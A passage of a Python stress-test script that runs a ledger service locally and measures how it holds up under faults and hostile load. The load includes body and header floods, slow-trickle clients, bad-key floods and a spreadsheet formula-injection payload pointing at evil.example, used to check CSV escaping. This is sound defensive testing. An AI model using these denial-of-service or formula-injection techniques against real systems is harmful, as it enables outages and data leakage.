"""How the service holds under faults and hostile load (issue 17), with figures.

    .venv/bin/python -m tests.bench.hostile [--backends sqlite,postgres] [--quick]

Run on purpose, not in the suite. Each scenario starts the service as it is deployed
(`labor-ledger serve`, one uvicorn process) on a fresh database, reproduces one finding
of issue 17 against it from real clients, and reports what it measured. PostgreSQL
scenarios that need a failing network go through tests/faults/proxy.py. The run ends
with one markdown table: scenario | before (the issue's figure) | now | what a client sees.
`--quick` shortens every timed window (the whole run stays under 5 minutes a backend).
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
from sqlalchemy import Engine, create_engine, text
from sqlalchemy.engine import make_url

from service.access.keys import Scope
from service.ledger import build_ledger
from tests.bench.bulk_load import BenchDatabase
from tests.bench.http_load import free_port
from tests.factories import SOURCE_ID, source_body
from tests.faults.proxy import FaultyProxy

ROOT = Path(__file__).resolve().parents[2]
LABOR_LEDGER = str(Path(sys.executable).with_name("labor-ledger"))


# -- the service, as deployed -------------------------------------------------------


@dataclass
class Service:
    """`labor-ledger serve` in its own process, on `db` (or on `database_url`)."""

    db: BenchDatabase
    log: Path
    limits: bool = False
    database_url: str | None = None
    extra: dict[str, str] = field(default_factory=dict)
    port: int = field(default_factory=free_port)
    process: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def env(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}
        env.update(self.db.server_env())
        env.update(
            LEDGER_DATABASE_URL=self.database_url or self.db.url,
            LEDGER_WARM_VIEWS_ON_START="false",
            LEDGER_WEBHOOKS_ALLOW_PRIVATE_TARGETS="true",
            LEDGER_RATE_LIMITS_ENABLED="true" if self.limits else "false",
            LEDGER_LOG_FORMAT="json",
        )
        env.update(self.extra)
        return env

    def start(self) -> Service:
        with self.log.open("ab") as out:
            self.process = subprocess.Popen(
                [LABOR_LEDGER, "serve", "--host", "127.0.0.1", "--port", str(self.port)],
                cwd=ROOT,
                env=self.env(),
                stdout=out,
                stderr=subprocess.STDOUT,
            )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"serve exited with {self.process.returncode}; see {self.log}")
            with suppress(httpx.HTTPError):
                if httpx.get(self.url + "/healthz", timeout=1).status_code == 200:
                    return self
            time.sleep(0.1)
        raise RuntimeError(f"serve did not start in 60 s; see {self.log}")

    def stop(self) -> None:
        if self.process is None or self.process.poll() is not None:
            return
        self.process.terminate()
        try:
            self.process.wait(15)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(10)

    def kill(self) -> None:
        """SIGKILL, as in a crash."""
        assert self.process is not None
        self.process.kill()
        self.process.wait(10)

    def rss_mib(self) -> float:
        assert self.process is not None
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return float("nan")


@contextmanager
def serving(service: Service) -> Iterator[Service]:
    service.start()
    try:
        yield service
    finally:
        service.stop()


@dataclass
class Keys:
    admin_id: str
    admin: str
    writer: str
    revoked: str
    expired: str
    corrector: str

    @staticmethod
    def bearer(token: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {token}"}


def make_keys(db: BenchDatabase) -> Keys:
    ledger = build_ledger(db.settings())
    try:
        admin, admin_token = ledger.keys.create("bench-admin", {Scope.admin})
        _, writer = ledger.keys.create("bench-writer", {Scope.events_write})
        gone, revoked = ledger.keys.create("bench-revoked", {Scope.admin, Scope.events_write})
        ledger.keys.revoke(gone.id)
        soon = datetime.now(UTC) + timedelta(seconds=1)
        _, expired = ledger.keys.create(
            "bench-expired", {Scope.admin, Scope.events_write}, expires_at=soon
        )
        _, corrector = ledger.keys.create("bench-corrector", {Scope.events_correct})
    finally:
        ledger.engine.dispose()
    time.sleep(1.2)  # the expiring key's second passes
    return Keys(str(admin.id), admin_token, writer, revoked, expired, corrector)


# -- results ------------------------------------------------------------------------


@dataclass
class Row:
    scenario: str
    before: str
    now: dict[str, str] = field(default_factory=dict)
    sees: dict[str, str] = field(default_factory=dict)


class Table:
    def __init__(self) -> None:
        self.rows: dict[str, Row] = {}

    def add(self, scenario: str, before: str, backend: str, now: str, sees: str) -> None:
        row = self.rows.setdefault(scenario, Row(scenario, before))
        row.now[backend] = now
        row.sees[backend] = sees
        print(f"  [{backend}] {scenario}: {now} | {sees}", flush=True)

    def markdown(self) -> str:
        lines = [
            "| scenario | before (issue 17) | now (measured) | what a client sees |",
            "|---|---|---|---|",
        ]
        for row in self.rows.values():
            lines.append(
                f"| {row.scenario} | {row.before} | {_per_backend(row.now)} | "
                f"{_per_backend(row.sees)} |"
            )
        return "\n".join(lines)


def _per_backend(cells: dict[str, str]) -> str:
    if len(set(cells.values())) == 1:
        return next(iter(cells.values())).replace("|", "\\|")
    return "<br>".join(f"**{b}**: {v}" for b, v in cells.items()).replace("|", "\\|")


def _ms(seconds: float) -> str:
    return f"{seconds * 1000:,.0f} ms" if seconds < 10 else f"{seconds:,.1f} s"


def _statuses(counter: Counter[Any]) -> str:
    return ", ".join(f"{count} × {status}" for status, count in sorted(counter.items()))


def _problem(response: httpx.Response) -> str:
    with suppress(ValueError):
        body = response.json()
        if isinstance(body, dict) and "type" in body:
            return str(body["type"]).rsplit("/", 1)[-1]
    return ""


def _answer(response: httpx.Response) -> str:
    problem = _problem(response)
    return f"{response.status_code} {problem}".strip()


@dataclass
class Probe:
    """/healthz asked every `every` seconds by tests/bench/health_probe.py, each answer timed."""

    url: str
    every: float = 0.1
    samples: list[float] = field(default_factory=list)
    failures: int = 0
    _process: subprocess.Popen[str] | None = None

    def __enter__(self) -> Probe:
        self._process = subprocess.Popen(
            [sys.executable, "-m", "tests.bench.health_probe", self.url, str(self.every)],
            cwd=ROOT,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        assert self._process.stdout is not None
        self._process.stdout.readline()  # "ready": it has had its first answer
        return self

    def __exit__(self, *_: object) -> None:
        assert self._process is not None and self._process.stdin is not None
        self._process.stdin.close()
        assert self._process.stdout is not None
        out = self._process.stdout.read()
        self._process.wait(60)
        found = json.loads(out.strip().splitlines()[-1])
        self.samples, self.failures = found["samples"], found["failures"]

    def summary(self) -> str:
        if not self.samples:
            return "no answer"
        failed = f", {self.failures} failed" if self.failures else ""
        return (
            f"median {_ms(statistics.median(self.samples))}, max {_ms(max(self.samples))}{failed}"
        )


_ENGINES: dict[str, Engine] = {}


def log_counts(engine_url: str, prefix: str) -> Counter[str]:
    """How many events of each source whose id starts with `prefix` the log holds."""
    engine = _ENGINES.get(engine_url) or _ENGINES.setdefault(engine_url, create_engine(engine_url))
    with engine.connect() as conn:
        rows = conn.execute(
            text("SELECT source_id, count(*) FROM events WHERE source_id LIKE :p GROUP BY 1"),
            {"p": prefix + "%"},
        ).all()
    return Counter({str(source): int(count) for source, count in rows})


# -- 1. the auth matrix -------------------------------------------------------------


def auth_matrix(service: Service, keys: Keys, table: Table, backend: str) -> None:
    admin = keys.bearer(keys.admin)
    with httpx.Client(base_url=service.url, timeout=30) as http:
        contract = http.get("/openapi.json").json()
        secured = [
            (method.upper(), path, operation["security"][0]["HTTPBearer"][0])
            for path, operations in contract["paths"].items()
            for method, operation in operations.items()
            if operation.get("security")
        ]
        hook = http.post("/v1/admin/webhooks", json={"url": "http://127.0.0.1:9/m"}, headers=admin)
        hook_id = hook.json()["webhook"]["id"]
        spare = http.post(
            "/v1/admin/keys", json={"name": "spare", "scopes": ["events:write"]}, headers=admin
        ).json()
        spare_id = spare["key"]["id"] if "key" in spare else spare["id"]

        def body(method: str, path: str) -> Any:
            if (method, path) == ("POST", "/v1/events"):
                return source_body(f"auth-{uuid4().hex[:8]}")
            if (method, path) == ("POST", "/v1/admin/keys"):
                return {"name": f"m-{uuid4().hex[:8]}", "scopes": ["events:write"]}
            if (method, path) == ("POST", "/v1/admin/webhooks"):
                return {"url": "http://127.0.0.1:9/matrix"}
            return None

        wrong = {"admin": keys.writer, "events:write": keys.corrector}
        right = {"admin": keys.admin, "events:write": keys.writer}
        kinds: list[tuple[str, Callable[[str], str | None], str]] = [
            ("no key", lambda scope: None, "401"),
            ("bad key", lambda scope: "ll_" + "x" * 40, "401"),
            ("revoked key", lambda scope: keys.revoked, "401"),
            ("expired key", lambda scope: keys.expired, "401"),
            ("wrong scope", lambda scope: wrong[scope], "403"),
            ("right scope", lambda scope: right[scope], "2xx"),
        ]
        ordered = sorted(secured, key=lambda op: op[0] == "DELETE")  # deletions last
        answered_right, wrongs = 0, []
        for method, path, scope in ordered:
            url = path.replace("{webhook_id}", hook_id).replace("{key_id}", spare_id)
            for kind, token_of, expected in kinds:
                token = token_of(scope)
                headers = keys.bearer(token) if token else {}
                response = http.request(method, url, json=body(method, path), headers=headers)
                got = response.status_code
                ok = 200 <= got < 300 if expected == "2xx" else str(got) == expected
                answered_right += ok
                if not ok:
                    wrongs.append(f"{method} {path} {kind}: {got} (expected {expected})")
    total = len(secured) * len(kinds)
    now = f"{answered_right}/{total} right ({len(secured)} endpoints × 6 kinds of key)"
    sees = "401 / 403 / 2xx as documented"
    if wrongs:
        sees = "WRONG: " + "; ".join(wrongs[:4])
    table.add("1. Auth matrix", "158 requests, all right", backend, now, sees)


# -- 2. connection cut at COMMIT every 0.4 s ------------------------------------------


def commit_cuts(
    service: Service, proxy: FaultyProxy, keys: Keys, direct_url: str, seconds: float, table: Table
) -> None:
    writer = keys.bearer(keys.writer)

    def run(tag: str, keyed: bool) -> tuple[list[tuple[str, int, str, str]], int]:
        answers: list[tuple[str, int, str, str]] = []
        stop = threading.Event()
        lock = threading.Lock()

        def client(i: int) -> None:
            with httpx.Client(base_url=service.url, timeout=30, headers=writer) as http:
                n = 0
                while not stop.is_set():
                    marker = f"{tag}-{i}-{n}"
                    n += 1
                    headers = {"Idempotency-Key": marker} if keyed else {}
                    for _attempt in range(40 if keyed else 1):
                        try:
                            response = http.post(
                                "/v1/events", json=source_body(marker), headers=headers
                            )
                            status, kind = response.status_code, _problem(response)
                            detail = response.text
                        except httpx.HTTPError as error:
                            status, kind, detail = 0, type(error).__name__, ""
                        with lock:
                            answers.append((marker, status, kind, detail))
                        if status in (200, 201) or (0 < status < 500 and status != 429):
                            break
                        time.sleep(0.2)

        cutter_stop = threading.Event()
        proxy.cut_commits_every(0.4, cutter_stop)
        cuts_before = proxy.cuts
        threads = [threading.Thread(target=client, args=(i,)) for i in range(8)]
        for thread in threads:
            thread.start()
        time.sleep(seconds)
        stop.set()
        cutter_stop.set()
        for thread in threads:
            thread.join(120)
        proxy.cut_at_commit = None
        return answers, proxy.cuts - cuts_before

    answers, cuts = run("cut", keyed=False)
    logged = log_counts(direct_url, "cut-")
    statuses = Counter(f"{s} {k}".strip() for _, s, k, _ in answers)
    false_nothing = [
        (m, s, k)
        for m, s, k, d in answers
        if s >= 500 and "nothing was recorded" in d.lower() and logged[m]
    ]
    unknown = [m for m, s, k, _ in answers if k == "outcome-unknown"]
    unknown_in_log = sum(1 for m in unknown if logged[m])
    lost = [m for m, s, _, _ in answers if s == 201 and not logged[m]]
    now = (
        f"{len(answers)} POSTs, {cuts} COMMITs cut: {len(false_nothing)} answers say "
        f"'nothing was recorded' for an event in the log; {len(unknown)} × 503 outcome-unknown "
        f"({unknown_in_log} of them were recorded); {sum(1 for _, s, _, _ in answers if s == 500)}"
        f" × 500; {len(lost)} acknowledged and lost"
    )
    table.add(
        "2a. COMMIT cut every 0.4 s, 8 writers, no Idempotency-Key",
        "24 × 500 'nothing was recorded' for events in the log",
        "postgres",
        now,
        _statuses(statuses),
    )

    answers, cuts = run("keyed", keyed=True)
    logged = log_counts(direct_url, "keyed-")
    markers = {m for m, _, _, _ in answers}
    acked = {m for m, s, _, _ in answers if s in (200, 201)}
    lost = [m for m in acked if not logged[m]]
    duplicated = [m for m in markers if logged[m] > 1]
    unsettled = markers - acked
    retries = len(answers) - len(markers)
    statuses = Counter(f"{s} {k}".strip() for _, s, k, _ in answers)
    now = (
        f"{len(markers)} events, {cuts} COMMITs cut, {retries} retries with the same key: "
        f"{len(acked)} acknowledged, {len(lost)} lost, {len(duplicated)} duplicated, "
        f"{len(unsettled)} never acknowledged"
    )
    table.add(
        "2b. the same, clients retrying with the same Idempotency-Key",
        "a client that believed the 500 and resent made a duplicate",
        "postgres",
        now,
        _statuses(statuses),
    )


# -- 3. the database stalled --------------------------------------------------------


def stalled_database(service: Service, proxy: FaultyProxy, stall: float, table: Table) -> None:
    """Readers keep asking for a page of the log while the proxy holds every byte for
    `stall` seconds; each request that started in the stall is classed by its answer and
    by whether it was answered before the stall ended or waited it out."""
    asked: list[tuple[float, float, int | str]] = []  # started, answered, status
    stop = threading.Event()
    lock = threading.Lock()

    def reader() -> None:
        with httpx.Client(base_url=service.url, timeout=60) as http:
            while not stop.is_set():
                started = time.monotonic()
                try:
                    response = http.get("/v1/events", params={"limit": 20})
                    status: int | str = _answer(response)
                except httpx.HTTPError as error:
                    status = type(error).__name__
                with lock:
                    asked.append((started, time.monotonic(), status))

    readers = [threading.Thread(target=reader) for _ in range(30)]
    for thread in readers:
        thread.start()
    time.sleep(1)
    with Probe(service.url) as health:
        proxy.stalled.set()
        stalled_at = time.monotonic()
        time.sleep(1.0)
        started = time.monotonic()
        try:
            ready = httpx.get(service.url + "/readyz", timeout=30)
            ready_answer = f"{_answer(ready)} in {_ms(time.monotonic() - started)}"
        except httpx.HTTPError as error:
            ready_answer = f"{type(error).__name__} after {_ms(time.monotonic() - started)}"
        time.sleep(max(0.0, stalled_at + stall - time.monotonic()))
        proxy.stalled.clear()
        released_at = time.monotonic()
        time.sleep(0.5)
        stop.set()
    for thread in readers:
        thread.join(60)
    # every read in flight at some moment of the stall, whenever it was asked
    during = [(s, a, st) for s, a, st in asked if s < released_at and a > stalled_at]
    answered = [(a - max(s, stalled_at), st) for s, a, st in during if a < released_at]
    waited = [a - s for s, a, _ in during if a >= released_at]
    statuses = Counter(status for _, _, status in during)
    now = (
        f"{stall:.0f} s stall, 30 readers: /healthz {health.summary()}; /readyz {ready_answer}; "
        f"{len(during)} reads in flight in the stall: {len(answered)} answered in it "
        f"({_statuses(Counter(st for _, st in answered))}; slowest "
        f"{_ms(max((w for w, _ in answered), default=0.0))}), {len(waited)} waited for its end "
        f"(up to {_ms(max(waited, default=0.0))})"
    )
    table.add(
        "3. Database stalled (proxy), 30 readers",
        "30 s stall, 60 readers: requests hung 30 s, /readyz and /healthz timed out",
        "postgres",
        now,
        _statuses(statuses),
    )


# -- 4. webhooks --------------------------------------------------------------------


def webhooks(events: int, workdir: Path, table: Table, backend: str) -> None:
    from tests.bench.webhook_isolation import run as isolation_run
    from tests.bench.webhook_isolation import summary

    latencies = isolation_run(events, 12, workdir)
    table.add(
        "4. Healthy webhook subscriber beside 12 hanging receivers",
        "median 19.5 s, max 29.5 s (0.5 s with none)",
        backend,
        summary(latencies) + " (tests/bench/webhook_isolation.py, SQLite)",
        "its deliveries on time; the hanging ones trip a breaker",
    )


# -- 5. streams -----------------------------------------------------------------------


def fill_log(service: Service, keys: Keys, events: int) -> None:
    with httpx.Client(base_url=service.url, timeout=300, headers=keys.bearer(keys.writer)) as http:
        for start in range(0, events, 1000):
            batch = [source_body(f"fill-{n}") for n in range(start, min(events, start + 1000))]
            response = http.post("/v1/events", json={"events": batch})
            if response.status_code != 201:
                raise RuntimeError(f"filling the log: {response.status_code} {response.text[:300]}")


def streams(service: Service, others: int, seconds: float, table: Table, backend: str) -> None:
    opened: list[tuple[str, int | str, int]] = []
    early: list[bool] = []
    lock = threading.Lock()
    stop = threading.Event()

    def follow(address: str) -> None:
        transport = httpx.HTTPTransport(local_address=address)
        received, status, ended_early = 0, "?", False
        try:
            with (
                httpx.Client(transport=transport, timeout=httpx.Timeout(10, read=30)) as http,
                http.stream("GET", service.url + "/v1/events/stream", params={"after": 0}) as r,
            ):
                status = r.status_code if r.status_code == 200 else _answer_of_stream(r)
                if r.status_code == 200:
                    for chunk in r.iter_raw():
                        received += len(chunk)
                        if stop.is_set():
                            break
                    else:
                        ended_early = True
        except httpx.HTTPError as error:
            status = type(error).__name__
        with lock:
            opened.append((address, status, received))
            early.append(ended_early)

    rss_before = service.rss_mib()
    addresses = ["127.0.0.1"] * 12 + [f"127.0.{10 + n // 200}.{1 + n % 200}" for n in range(others)]
    peak = rss_before
    with Probe(service.url, every=0.1) as health:
        threads = [threading.Thread(target=follow, args=(a,), daemon=True) for a in addresses]
        for thread in threads:
            thread.start()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            peak = max(peak, service.rss_mib())
            time.sleep(0.2)
        stop.set()
        for thread in threads:
            thread.join(30)
    rss_after = service.rss_mib()
    peak = max(peak, rss_after)
    one = [status for address, status, _ in opened if address == "127.0.0.1"]
    rest = [status for address, status, _ in opened if address != "127.0.0.1"]
    pulled = sum(received for _, _, received in opened)
    now = (
        f"{len(addresses)} streams from after=0 ({len(one)} from one address, {len(rest)} from "
        f"others): one address {one.count(200)} accepted, others {rest.count(200)} accepted; "
        f"{pulled / 2**20:,.0f} MiB pulled in {seconds:.0f} s; RSS {rss_before:,.0f} → peak "
        f"{peak:,.0f} → {rss_after:,.0f} MiB; /healthz {health.summary()}"
        + (
            f"; {sum(early)} streams ended by the server before the client left"
            if any(early)
            else ""
        )
    )
    refused = Counter(status for status in one + rest if status != 200)
    sees = f"beyond the caps: {_statuses(refused)}" if refused else "every stream accepted"
    table.add(
        "5. Event streams from after=0",
        "100 streams on 17k events: 1 GB in 30 s, /healthz up to 10 s, 152 → 440 MiB, no cap",
        backend,
        now,
        sees,
    )


def _answer_of_stream(response: httpx.Response) -> str:
    response.read()
    return _answer(response)


# -- 6. hostile clients -----------------------------------------------------------------


def hostile_clients(
    service: Service, seconds: float, slow_for: float, table: Table, b: str
) -> None:
    big = (
        b'{"type": "source.recorded", "data": {"t": "' + b"\\u0000" * ((2**20 - 200) // 6) + b'"}}'
    )
    statuses: Counter[str] = Counter()
    waits: list[float] = []
    stop = threading.Event()
    with Probe(service.url, every=0.1) as quiet:
        time.sleep(min(2.0, seconds))

    def flood(n: int) -> None:
        transport = httpx.HTTPTransport(local_address=f"127.0.20.{n + 1}")
        with httpx.Client(transport=transport, timeout=30) as http:
            while not stop.is_set():
                started = time.monotonic()
                try:
                    response = http.post(
                        service.url + "/v1/events",
                        content=big,
                        headers={"Content-Type": "application/json"},
                    )
                    statuses[_answer(response)] += 1
                except httpx.HTTPError as error:
                    statuses[type(error).__name__] += 1
                waits.append(time.monotonic() - started)

    with Probe(service.url, every=0.1) as loud:
        threads = [threading.Thread(target=flood, args=(n,)) for n in range(4)]
        for thread in threads:
            thread.start()
        time.sleep(seconds)
        stop.set()
        for thread in threads:
            thread.join(60)
    table.add(
        "6a. Four keyless clients sending 1 MiB bodies of \\u0000",
        "/healthz 1.4 ms → 1.3 s median",
        b,
        f"/healthz {quiet.summary()} quiet → {loud.summary()} under the flood",
        f"{_statuses(statuses)}, each in median {_ms(statistics.median(waits))}, "
        f"max {_ms(max(waits))}",
    )

    bad: Counter[str] = Counter()
    transport = httpx.HTTPTransport(local_address="127.0.30.1")
    with httpx.Client(transport=transport, timeout=30) as http:
        for n in range(1500):
            response = http.post(
                service.url + "/v1/events",
                json=source_body(f"bad-{n}"),
                headers={"Authorization": "Bearer ll_" + "y" * 40},
            )
            bad[_answer(response)] += 1
            if n == 0:
                retry_after = response.headers.get("Retry-After")
    refused = sum(count for answer, count in bad.items() if answer.startswith("429"))
    table.add(
        "6b. 1,500 POSTs with a bad key",
        "1,500 × 401, no 429",
        b,
        f"{refused} × 429",
        _statuses(bad) + (f" (Retry-After on the first: {retry_after})" if retry_after else ""),
    )

    table.add("6c. An 8 MB header", "accepted", b, *_huge_header(service.port))
    table.add(
        "6d. 20 slow clients sending 1 byte a second",
        "100 such clients never closed",
        b,
        *_slow_clients(service.port, 20, slow_for),
    )


def _huge_header(port: int) -> tuple[str, str]:
    request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 8 * 2**20 + b"\r\n\r\n"
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
        try:
            while sent < len(request):
                sent += sock.send(request[sent : sent + 65536])
        except OSError:
            pass
        try:
            answer = sock.recv(200).split(b"\r\n", 1)[0].decode(errors="replace")
        except OSError as error:
            answer = type(error).__name__
    answer = answer or "connection closed, no answer"
    now = f"{answer} after {sent / 2**20:,.1f} of 8 MiB sent"
    return now, "refused" if not answer.startswith("HTTP/1.1 200") else "ACCEPTED"


def _slow_clients(port: int, count: int, bound: float) -> tuple[str, str]:
    closed_after: list[float] = []
    lock = threading.Lock()

    def trickle(n: int) -> None:
        started = time.monotonic()
        with socket.socket() as sock:
            sock.bind((f"127.0.40.{n + 1}", 0))
            sock.connect(("127.0.0.1", port))
            payload = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"s" * 1000
            for byte in payload:
                if time.monotonic() - started > bound:
                    return
                try:
                    sock.send(bytes([byte]))
                except OSError:
                    break
                readable, _, _ = select.select([sock], [], [], 1.0)
                if readable:
                    with suppress(OSError):
                        sock.recv(4096)
                    break
            with lock:
                closed_after.append(time.monotonic() - started)

    threads = [threading.Thread(target=trickle, args=(n,)) for n in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(bound + 30)
    if not closed_after:
        return f"none of {count} closed within {bound:.0f} s", "held open"
    return (
        f"{len(closed_after)} of {count} closed, after {min(closed_after):.1f}–"
        f"{max(closed_after):.1f} s (watched {bound:.0f} s)",
        "the server hangs up on a client that never finishes its request",
    )


# -- 7. input edge cases -------------------------------------------------------------


def edge_cases(service: Service, keys: Keys, table: Table, backend: str) -> None:
    writer = {**keys.bearer(keys.writer)}
    nul = json.dumps(source_body("nul-check", title="a\u0000b"), ensure_ascii=False)
    deep = b'{"a":' * 10_000 + b"1" + b"}" * 10_000
    plain = json.dumps(source_body("charset-check")).encode()
    cases: list[tuple[str, bytes, str, dict[str, str]]] = [
        ("UTF-16 body with NUL", nul.encode("utf-16"), "application/json", writer),
        ("UTF-32 body with NUL", nul.encode("utf-32"), "application/json", writer),
        ("nesting 10,000 deep", deep, "application/json", writer),
        ("nesting 10,000 deep, no key", deep, "application/json", {}),
        ("charset=latin-1", plain, "application/json; charset=latin-1", writer),
        ("merge-patch+json", plain, "application/merge-patch+json", writer),
    ]
    found = []
    fives = []
    with httpx.Client(base_url=service.url, timeout=60) as http:
        for name, content, media_type, headers in cases:
            response = http.post(
                "/v1/events", content=content, headers={**headers, "Content-Type": media_type}
            )
            found.append(f"{name}: {_answer(response)}")
            if response.status_code >= 500:
                fives.append(f"{name} → {response.status_code} {response.text[:200]}")
        http.post("/v1/events", json=source_body(), headers=writer)
        formula = '=HYPERLINK("http://evil.example/?leak","click me")'
        statement = {
            "type": "statement.issued",
            "provenance": {
                "source_id": SOURCE_ID,
                "locator": f"Officials said: {formula}",
                "reporting_basis": "official_statement",
            },
            "data": {
                "speaker": {"role": "official"},
                "quote": formula,
                "language": "en",
                "issued_on": "2023-04-25",
            },
        }
        posted = http.post("/v1/events", json=statement, headers=writer)
        csv = http.get("/v1/statements", params={"format": "csv"})
        if posted.status_code != 201:
            escaped = f"statement not recorded ({_answer(posted)})"
        elif "'=HYPERLINK" in csv.text:
            escaped = "escaped as '=HYPERLINK"
        elif "=HYPERLINK" in csv.text:
            escaped = "UNESCAPED =HYPERLINK"
        else:
            escaped = "formula absent from the CSV"
        found.append(f"statements CSV: {csv.status_code}, {escaped}")
    table.add(
        "7. Input edge cases (POST /v1/events)",
        "UTF-16/32 NUL stored on SQLite, 500 on PostgreSQL; deep nesting 500; latin-1 and "
        "merge-patch taken as JSON; =HYPERLINK unescaped",
        backend,
        "; ".join(found),
        "no 500" if not fives else "500: " + "; ".join(fives),
    )


# -- 8. trust -------------------------------------------------------------------------


def trust_in_the_api(service: Service, keys: Keys, db: BenchDatabase) -> list[str]:
    """What the running service says about keys, public reads and webhook secrets."""
    admin = keys.bearer(keys.admin)
    found = []
    with httpx.Client(base_url=service.url, timeout=30) as http:
        expired = http.post(
            "/v1/admin/keys",
            json={"name": "old", "scopes": ["events:write"], "expires_at": "2020-01-01T00:00:00Z"},
            headers=admin,
        )
        found.append(f"a key expiring in 2020: {_answer(expired)}")
        idem = f"idem-probe-{uuid4().hex}"
        posted = http.post(
            "/v1/events",
            json=source_body("idem-probe"),
            headers={**keys.bearer(keys.writer), "Idempotency-Key": idem},
        )
        position = posted.json()["events"][0]["position"]
        reads = [f"/v1/events?after={position - 1}&limit=1", "/v1/streams/source:idem-probe"]
        shown = [read for read in reads if idem in http.get(read).text]
        found.append(
            "a client's Idempotency-Key in public reads: "
            + (f"SHOWN by {', '.join(shown)}" if shown else "not shown")
        )
        hook = http.post("/v1/admin/webhooks", json={"url": "http://127.0.0.1:9/s"}, headers=admin)
        secret = hook.json().get("secret") or hook.json().get("webhook", {}).get("secret", "")
        with db.engine.connect() as conn:
            stored = conn.execute(
                text("SELECT secret FROM webhook_subscriptions WHERE id = :id"),
                {"id": hook.json()["webhook"]["id"].replace("-", "")}
                if db.backend == "sqlite"
                else {"id": hook.json()["webhook"]["id"]},
            ).scalar()
        sealed = bool(stored) and str(stored).startswith("sealed:") and secret not in str(stored)
        found.append(f"webhook secret at rest: {'sealed' if sealed else f'CLEAR ({stored!r:.20})'}")
        last = http.delete(f"/v1/admin/keys/{keys.admin_id}", headers=admin)
        found.append(f"revoking the last admin key: {_answer(last)}")
    return found


def tampered_chain(backend: str, tamper: str, workdir: Path) -> str:
    """A reader keeps a checkpoint of a seeded log; the log is then tampered with, as an
    intruder with the owner's rights would (tests/store/test_checkpoints.py): does the
    chain alone notice, and does `labor-ledger verify --checkpoint` (exit 1)?"""
    from service.access.keys import ensure_secret
    from service.domain.checkpoints import CheckpointSigner
    from service.domain.clock import utc_now
    from service.ingest.importing import import_events, read_seed
    from service.log.checkpoints import sign_position
    from service.log.verify import verify_chain
    from tests.store.test_checkpoints import cut_the_tail, rewrite_and_rechain

    db = BenchDatabase.fresh(backend, f"hostile_{tamper}", workdir)
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}
    env.update(LEDGER_DATABASE_URL=db.url, LEDGER_SECRET_KEY="bench-secret")
    ledger = build_ledger(db.settings())
    try:
        seed = read_seed()[:40]  # enough of a log to tamper with, quick on PostgreSQL
        seeded = import_events(ledger.store, ledger.gazetteer, seed, principal="seed")
        signer = CheckpointSigner.from_secret(ensure_secret(ledger.engine, "bench-secret"))
        with ledger.engine.connect() as conn:
            signed = sign_position(conn, signer, utc_now().replace(microsecond=0), None)
        kept = workdir / f"checkpoint-{tamper}.json"
        kept.write_text(signed.model_dump_json(indent=2))
        if tamper == "rewrite":
            rewrite_and_rechain(ledger, 2)
        else:
            cut_the_tail(ledger, seeded - 2)
        with ledger.engine.connect() as conn:
            chain_ok = verify_chain(conn).ok
        checked = subprocess.run(
            [LABOR_LEDGER, "verify", "--checkpoint", str(kept)], env=env, capture_output=True
        )
    finally:
        ledger.engine.dispose()
        db.drop()
    seen = "caught" if checked.returncode == 1 else f"MISSED (exit {checked.returncode})"
    alone = "passes" if chain_ok else "fails"
    what = "rewrite+rechain" if tamper == "rewrite" else "cut tail"
    return f"{what}: chain alone {alone}, checkpoint {seen}"


def service_role(db: BenchDatabase) -> str:
    role = "ledger_bench_service"
    with db.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        if not conn.execute(text("SELECT 1 FROM pg_roles WHERE rolname = :r"), {"r": role}).first():
            conn.execute(text(f"CREATE ROLE {role} LOGIN"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}
    env.update(LEDGER_DATABASE_URL=db.url, LEDGER_SECRET_KEY="bench-secret")
    granted = subprocess.run(
        [LABOR_LEDGER, "grant-service-role", role], env=env, capture_output=True, text=True
    )
    if granted.returncode != 0:
        return f"grant-service-role failed: {granted.stderr.strip()[:200]}"
    as_role = create_engine(make_url(db.url).set(username=role))
    try:
        with as_role.begin() as conn:
            conn.execute(text("ALTER TABLE events DISABLE TRIGGER ALL"))
        return "the service role DISABLED the trigger"
    except Exception as refused:  # any refusal is the answer
        return f"the service role cannot disable the trigger ({type(refused).__name__})"
    finally:
        as_role.dispose()


# -- 9. what held ------------------------------------------------------------------------


def one_key_sixteen_threads(service: Service, keys: Keys, url: str) -> str:
    barrier = threading.Barrier(16)
    answers: list[int] = []
    headers = {**keys.bearer(keys.writer), "Idempotency-Key": "one-key-16"}

    def send() -> None:
        with httpx.Client(base_url=service.url, timeout=60) as http:
            barrier.wait()
            answers.append(
                http.post("/v1/events", json=source_body("one-key"), headers=headers).status_code
            )

    threads = [threading.Thread(target=send) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    recorded = log_counts(url, "one-key")["one-key"]
    return f"{recorded} event recorded ({_statuses(Counter(answers))})"


def racing_processes(service: Service, keys: Keys, seconds: float) -> str:
    with httpx.Client(base_url=service.url, timeout=30) as http:
        http.post("/v1/events", json=source_body("race"), headers=keys.bearer(keys.writer))
    racers = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "tests.bench.racer",
                service.url,
                keys.writer,
                str(seconds),
                str(n),
            ],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            text=True,
        )
        for n in range(4)
    ]
